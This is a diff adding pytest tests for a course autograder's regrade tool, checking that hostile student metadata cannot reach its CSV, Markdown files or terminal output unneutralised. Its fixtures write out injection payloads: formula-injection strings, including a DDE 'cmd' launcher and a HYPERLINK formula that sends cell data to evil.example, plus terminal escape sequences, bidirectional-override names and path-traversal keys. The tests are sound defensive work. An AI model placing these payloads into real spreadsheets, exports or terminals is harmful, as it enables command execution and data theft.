@@ -3,6 +3,7 @@ empty upload never stops the batch; a changed course changes exactly the right r
 import csv
 import json
 import os
+import re
 import subprocess
 import sys
 import time
@@ -69,7 +70,8 @@ def test_a_class_is_regraded_summarised_resumed_and_rescored_with_new_points(tmp
     course.write_text(COURSE)
     done = run(export, out, course)
     assert done.returncode == 0, done.stderr[-3000:]
-    assert "8 submissions: 0 measured before" in done.stdout and "7 to grade, 2 at a time, 1 more with the same files" in done.stdout
+    assert "8 submissions, 1 with the same files as another" in done.stdout
+    assert "0 measured before, 7 to grade, 2 at a time" in done.stdout
     results = {name: json.loads((out / name / "results.json").read_text()) for name in CLASS}
     totals = {name: r["score"] for name, r in results.items()}
     assert totals == {"submission_1001": 25, "submission_1002": 0, "submission_1003": 19, "submission_1004": 14,
@@ -94,7 +96,8 @@ def test_a_class_is_regraded_summarised_resumed_and_rescored_with_new_points(tmp
     assert (out / "histogram.png").stat().st_size > 1000
     changed = (out / "changed.md").read_text()
     assert "submission_1004" in changed and "submission_1002" not in changed
-    assert "| 2.3 loss_function: the KL term vanishes" in (out / "tests.md").read_text()
+    assert "| 2.3 loss_function: the KL term vanishes exactly at mu = 0, logvar = 0 | 4 | 4 of 8 | 16 |" in (
+        out / "tests.md").read_text()
 
     start = time.monotonic()
     again = run(export, out, course)  # resumed: nothing left to grade
@@ -200,3 +203,170 @@ def test_a_record_is_read_back_only_under_the_key_it_was_measured_with(tmp_path)
     assert record.load(path, "k2") is None
     path.write_text(path.read_text()[:-5])
     assert record.load(path, "k1") is None
+
+
+FAKE_GRADER = '''#!{python}
+"""Stands for `python -m autograder` in a regrade: no training, a record and results.json as the
+grader writes them, with a hostile first line of message for every test it fails."""
+import argparse, sys
+sys.path.insert(0, {root!r})
+from autograder import record
+from autograder.course import load
+from autograder.grade import score, stamp
+
+parser = argparse.ArgumentParser()
+for name in ("-m", "--course", "--submission", "--results", "--record"):
+    parser.add_argument(name)
+args = parser.parse_args()
+course = load(args.course)
+files = "".join(p.read_text() for p in sorted(__import__("pathlib").Path(args.submission).rglob("*.py")))
+verdicts = {{t.number: (1.0 if "good" in files else 0.25, "=HYPERLINK(1)|[x](http://e)\\x1b[2J\\u202e\\nmore")
+            for part in course.parts for t in course.tests[part.NAME]}}
+record.save(args.record, record.measured_key(course, stamp(course)), verdicts, 1.0, "log", [])
+score(course, verdicts, 1.0, "log", [], args.results, lambda *a, **k: None)
+print("grading reparameterize ...")
+'''
+
+HOSTILE = {  # metadata field -> a value that a spreadsheet or a terminal would act on
+    ":name": ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+              "\t=1+1", "\r=1+1", "\x1b]0;pwned\x07Eve\x1b[2J\x1b[31m", "Mallory\u202egnp.exe\n# heading | x",
+              "Zoë [me](http://e) <b>", "\uff1d1+1"],
+    ":email": ["=1+1@example.edu", "a@example.edu\x1b[8m\x9b8m"],
+    ":sid": ["-123", "@9"],
+}
+
+
+def hostile_export(tmp_path, stamp=None):
+    """An unpacked export of 10 submissions whose metadata is hostile in every field; 2 and 3 have
+    the same files, as have 4 and 5."""
+    export = tmp_path / "export"
+    metadata = {}
+    for i in range(10):
+        name = f"submission_{i}"
+        body = {2: "twin a", 3: "twin a", 4: "good twin", 5: "good twin"}.get(i, f"good {i}" if i % 2 else f"bad {i}")
+        for file in ("vae.py", "assignment.py"):
+            (export / name).mkdir(parents=True, exist_ok=True)
+            (export / name / file).write_text(f"# {body}\n")
+        people = [{":name": HOSTILE[":name"][i], ":email": HOSTILE[":email"][i % 2], ":sid": HOSTILE[":sid"][i % 2]}]
+        metadata[name] = {":submitters": people, ":score": 25.0, ":status": "processed"}
+        if stamp:
+            metadata[name][":results"] = {"score": 1.0, "tests": [], "extra_data": dict(stamp)}
+    (export / "submission_metadata.yml").write_text(yaml.safe_dump(metadata))
+    os.chmod(export, 0o700)
+    return export
+
+
+def fake_grader(tmp_path, monkeypatch):
+    fake = tmp_path / "fake-python"
+    fake.write_text(FAKE_GRADER.format(python=sys.executable, root=str(ROOT)))
+    fake.chmod(0o755)
+    monkeypatch.setattr(regrade.sys, "executable", str(fake))
+
+
+def test_hostile_metadata_and_messages_reach_no_file_or_terminal_as_they_are(tmp_path, monkeypatch, capsys):
+    """Names, emails, ids and messages that start formulas, carry escape sequences, bidirectional
+    marks, line breaks or Markdown: summary.csv's text cells start with a quote where a spreadsheet
+    would compute them, and nothing printed or written keeps an escape or a line break of theirs."""
+    fake_grader(tmp_path, monkeypatch)
+    course = tmp_path / "course.toml"
+    course.write_text(COURSE)
+    export, out = hostile_export(tmp_path), tmp_path / "out"
+    assert regrade.main([str(export), "--out", str(out), "--course", str(course), "--jobs", "2"]) == 0
+    said = capsys.readouterr()
+    with open(out / "summary.csv", newline="", encoding="utf-8") as handle:
+        table = list(csv.reader(handle))
+    assert len(table) == 11
+    for row in table:  # a number (-18.75) is a number to a spreadsheet too; text never starts a formula
+        for value in row:
+            assert re.fullmatch(r"-?[0-9.]+", value) or not value.startswith(regrade.FORMULA), value
+    rows = {row[0]: row for row in table[1:]}
+    assert rows["submission_0"][1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    assert rows["submission_4"][1] == "'=1+1" and rows["submission_5"][1] == "'=1+1"  # a tab, a return before
+    assert rows["submission_2"][1] == "'-2+3" and rows["submission_0"][3] == "'-123"
+    assert rows["submission_6"][1] == "Eve" and rows["submission_7"][1] == "Mallorygnp.exe # heading | x"
+    assert rows["submission_1"][2] == "a@example.edu" and rows["submission_0"][2] == "'=1+1@example.edu"
+    assert float(rows["submission_0"][7]) == -18.75  # a negative change is a number, not text
+    assert not any("\r" in value or "\n" in value for row in table for value in row)
+    files = {name: (out / name).read_text(encoding="utf-8") for name in ("summary.csv", "tests.md", "changed.md")}
+    for name, written in {**files, "stdout": said.out, "stderr": said.err}.items():
+        for bad in ("\x1b", "\x07", "\x9b", "\u202e", "pwned"):
+            assert bad not in written, (name, bad)
+    assert "\r" not in files["tests.md"] + files["changed.md"] + said.out
+    changed = files["changed.md"].splitlines()
+    assert len(changed) == 2 + 5 and all(line.startswith("- submission") for line in changed[2:])  # one line each
+    assert "\\[me\\](http://e) \\<b\\>" in files["changed.md"]
+    for line in files["tests.md"].splitlines():  # every row has its five cells: no | of a message splits one
+        assert len(re.split(r"(?<!\\)\|", line)) == 7, line
+    assert "| =HYPERLINK(1)\\|\\[x\\](http://e) |" in files["tests.md"]
+
+
+def test_tests_md_counts_points_lost_and_the_first_line_counts_twins_as_summary_csv_does(tmp_path, monkeypatch,
+                                                                                         capsys):
+    fake_grader(tmp_path, monkeypatch)
+    course = tmp_path / "course.toml"
+    course.write_text(COURSE)
+    export, out = hostile_export(tmp_path), tmp_path / "out"
+    for attempt in range(2):  # the second run re-scores every submission from its record
+        assert regrade.main([str(export), "--out", str(out), "--course", str(course), "--jobs", "2"]) == 0
+        first = capsys.readouterr().out.splitlines()[0]
+        rows = read_csv(out)
+        twins = sum(1 for r in rows.values() if r["same_files_as"])
+        assert twins == 2 and f"10 submissions, {twins} with the same files as another" in first, first
+        assert ("0 measured before" if attempt == 0 else "10 measured before") in first
+    from autograder.course import load
+
+    graded = load(course)
+    lines = (out / "tests.md").read_text().splitlines()
+    assert lines[0].startswith("| test | points | submissions that lost points | points lost in all |")
+    for test in (t for part in graded.parts for t in graded.tests[part.NAME]):
+        lost = [test.points - float(r[test.number]) for r in rows.values() if float(r[test.number]) < test.points]
+        assert len(lost) == 5 and sum(lost) > len(lost)  # 0.25 of a test worth 2 to 7 points
+        row = next(line for line in lines if line.startswith(f"| {test.number} "))
+        assert f"| {test.points:g} | 5 of 10 | {round(sum(lost), 2):g} |" in row, row
+
+
+def test_an_entry_that_is_not_a_folder_name_is_refused(tmp_path):
+    for key in ("../../etc", "a/b", "..", "\x1b[2Jx"):
+        folder = tmp_path / f"export{len(key)}"
+        folder.mkdir()
+        (folder / "submission_metadata.yml").write_text(yaml.safe_dump({key: {":score": 1.0}}))
+        with pytest.raises(regrade.ExportError, match="not a submission folder's name") as refused:
+            regrade.read_metadata(folder)
+        assert "\x1b" not in regrade.plain(str(refused.value))
+
+
+def test_without_a_course_the_one_the_export_was_graded_with_is_taken_or_it_refuses(tmp_path, monkeypatch, capsys):
+    """No --course (make regrade without COURSE=): the course file whose SHA-256 the export's results
+    are stamped with (Gradescope's :results, extra_data), said on the first line; without such a
+    file, without stamps or with several, one line naming COURSE= and nothing graded."""
+    fake_grader(tmp_path, monkeypatch)
+    courses = tmp_path / "courses"
+    courses.mkdir()
+    (courses / "default.toml").write_text((ROOT / "courses" / "default.toml").read_text())
+    (courses / "small.toml").write_text(COURSE)
+    monkeypatch.setattr(regrade, "COURSES", courses)
+    digest = regrade.sha(courses / "small.toml")
+
+    def attempt(stamp, name):
+        out = tmp_path / name
+        code = regrade.main([str(hostile_export(tmp_path / name, stamp)), "--out", str(out), "--jobs", "2"])
+        return code, capsys.readouterr(), out
+
+    code, said, out = attempt({"course": "course.toml", "course_sha256": digest, "key": "k"}, "stamped")
+    assert code == 0, said.err
+    assert said.out.splitlines()[0] == (f"course {courses / 'small.toml'}: the course the export's results were graded "
+                                        f"with (SHA-256 {digest}; COURSE= or --course chooses another)")
+    assert "(course small.toml)" in said.out.splitlines()[1]
+    assert {json.loads((out / f"submission_{i}" / "results.json").read_text())["extra_data"]["course_sha256"]
+            for i in range(10)} == {digest}
+    for stamp, name in ((None, "unstamped"), ({"course": "course.toml", "course_sha256": "0" * 12}, "edited")):
+        code, said, out = attempt(stamp, name)
+        assert code == 2 and said.out == "" and said.err.count("\n") == 1 and "COURSE=courses/<name>.toml" in said.err
+        assert not (out / "submission_0").exists()
+    export = hostile_export(tmp_path / "mixed", {"course_sha256": digest})
+    metadata = yaml.safe_load((export / "submission_metadata.yml").read_text())
+    metadata["submission_3"][":results"]["extra_data"]["course_sha256"] = regrade.sha(courses / "default.toml")
+    (export / "submission_metadata.yml").write_text(yaml.safe_dump(metadata))
+    assert regrade.main([str(export), "--out", str(tmp_path / "mixed" / "out")]) == 2
+    said = capsys.readouterr()
+    assert said.err.count("\n") == 1 and "graded with 2 course files" in said.err and "COURSE=" in said.err
